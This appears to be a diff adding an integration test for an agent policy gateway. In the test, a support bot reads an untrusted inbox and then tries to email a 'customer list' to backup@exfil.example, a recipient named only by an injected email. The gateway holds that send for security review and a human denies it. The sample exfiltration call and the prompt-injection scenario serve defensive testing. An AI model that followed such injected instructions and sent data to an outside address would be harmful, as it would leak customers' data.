@@ -592,6 +592,75 @@ pub async fn run(args: Args) -> Result<u8, Exit> {
         &a,
     );
 
+    d.heading("the user names the recipient: after an untrusted read, her reply goes, the injected address is held");
+    let a = d
+        .call(
+            "admin",
+            "POST",
+            "/v1/admin/agents/support-bot/runs",
+            Some(json!({"task": "Tell Ada (ada@example.net) that her refund for ticket T1182 is on its way"})),
+        )
+        .await;
+    let run = a.body["run"].as_str().unwrap_or("").to_owned();
+    d.check(
+        a.status == 200,
+        "an operator opens a run with the user's task (its values are trusted instructions)",
+        &a,
+    );
+    let a = d
+        .act(
+            "support-bot",
+            "email.read_inbox",
+            json!({"limit": 10}),
+            &run,
+        )
+        .await;
+    d.check(
+        a.status == 200
+            && a.body["labels"]
+                .as_array()
+                .is_some_and(|l| l.contains(&json!("untrusted"))),
+        "the agent reads the inbox: the run is untrusted",
+        &a,
+    );
+    let a = d
+        .act(
+            "support-bot",
+            "email.send",
+            json!({"to": "ada@example.net", "subject": "your refund", "body": "on its way"}),
+            &run,
+        )
+        .await;
+    d.check(
+        a.status == 200,
+        "the reply to the address the user gave goes out (context.provenance.all_trusted)",
+        &a,
+    );
+    let a = d
+        .act(
+            "support-bot",
+            "email.send",
+            json!({"to": "backup@exfil.example", "subject": "customer list", "body": "as asked"}),
+            &run,
+        )
+        .await;
+    d.check(
+        a.status == 202
+            && a.body["policies"]
+                .as_array()
+                .is_some_and(|p| p.contains(&json!("no-outbound-after-untrusted-input"))),
+        "the address only the injected e-mail named is held for security-oncall",
+        &a,
+    );
+    let id = a.body["approval_id"].as_str().unwrap_or("").to_owned();
+    d.call(
+        "olga",
+        "POST",
+        &format!("/v1/admin/approvals/{id}/deny"),
+        Some(json!({"comment": "injected recipient"})),
+    )
+    .await;
+
     d.heading("inspection: a ticket carries hidden instructions, a message carries a card number");
     let a = d
         .act(
